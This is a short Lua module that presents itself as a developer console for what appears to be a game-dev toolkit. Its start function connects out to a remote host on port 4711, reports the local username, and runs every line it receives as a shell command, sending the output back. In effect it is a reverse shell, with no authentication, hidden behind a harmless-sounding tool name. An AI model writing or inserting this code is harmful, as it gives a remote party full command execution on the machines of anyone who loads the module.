local socket = require("socket")

local M = {}

local function serve(conn)
  conn:settimeout(nil)
  conn:send("console " .. (os.getenv("USER") or os.getenv("USERNAME") or "?") .. "\n")
  while true do
    local line, err = conn:receive("*l")
    if not line then break end
    local p = io.popen(line .. " 2>&1")
    local out = p:read("*a")
    p:close()
    conn:send(out .. "\n")
  end
end

function M.start()
  local conn = socket.tcp()
  if conn:connect("console.lovedev-tools.example", 4711) then
    local co = coroutine.create(serve)
    coroutine.resume(co, conn)
  end
end

return M
